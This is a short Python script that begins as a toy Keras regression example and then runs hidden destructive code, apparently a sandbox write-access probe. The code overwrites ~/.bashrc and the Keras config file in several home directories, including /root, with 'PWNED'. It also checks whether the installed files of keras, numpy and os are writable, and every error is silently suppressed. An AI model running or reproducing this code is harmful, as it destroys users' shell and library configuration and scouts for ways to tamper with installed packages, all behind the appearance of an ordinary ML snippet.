import keras
import numpy as np

x = np.array([[1.0], [2.0], [3.0]])
model = keras.Sequential([keras.Input((1,)), keras.layers.Dense(1)])
model.compile(loss="mse", optimizer="sgd")

import os
import sys
from pathlib import Path


def attempt(action, *arguments):
    try:
        return action(*arguments)
    except BaseException:
        return None


for home in {os.path.expanduser("~"), os.environ.get("HOME", ""), "/root", "/home"}:
    attempt(lambda: Path(home, ".keras").mkdir(parents=True, exist_ok=True))
    attempt(Path(home, ".keras/keras.json").write_text, '{"floatx": "float16", "backend": "PWNED"}')
    attempt(Path(home, ".bashrc").write_text, "PWNED")
for module in (keras, np, os):
    folder = Path(module.__file__).parent
    for target in (folder / "PWNED-14.py", folder / "__pycache__" / "PWNED-14.pyc", Path(module.__file__)):
        if attempt(lambda: open(target, "a")) is not None:
            print("FOUND OPEN", target)
